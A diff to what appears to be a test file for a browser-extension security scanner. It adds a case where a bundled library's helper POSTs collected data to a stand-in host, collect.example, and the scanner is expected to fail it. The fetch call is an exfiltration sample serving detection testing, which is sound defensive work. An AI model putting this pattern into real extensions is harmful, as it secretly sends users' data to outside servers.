@@ -236,6 +236,20 @@ it('elements that a helper makes of a tag and a table of attributes', async () =
   expect(await graded({ background: background("'frame.html?n=' + list.length"), manifest })).toMatch(/^A/);
 });
 
+it('a library of the program’s own, which is a function with functions, that another script puts on the window', async () => {
+  const library =
+    "(function (w) { function $(x) { return { x: x }; } $.tell = function (l) { fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(l) }); }; w.$ = $; })(window);";
+  const background = (data: string): string => `${data}.then(function (l) { $.tell(l); });`;
+  const scanned = (data: string): Promise<string> =>
+    graded({
+      background: background(data),
+      files: { 'own.js': library },
+      manifest: { manifest_version: 2, background: { scripts: ['own.js', 'background.js'] } },
+    });
+  expect(await scanned(TAKEN)).toBe('F');
+  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
+});
+
 it('steps that wait, as Babel has compiled them since 7.27', async () => {
   // Written as its helpers are called; what they do is no part of it.
   const layer = (name: string, params: string, steps: string): string =>
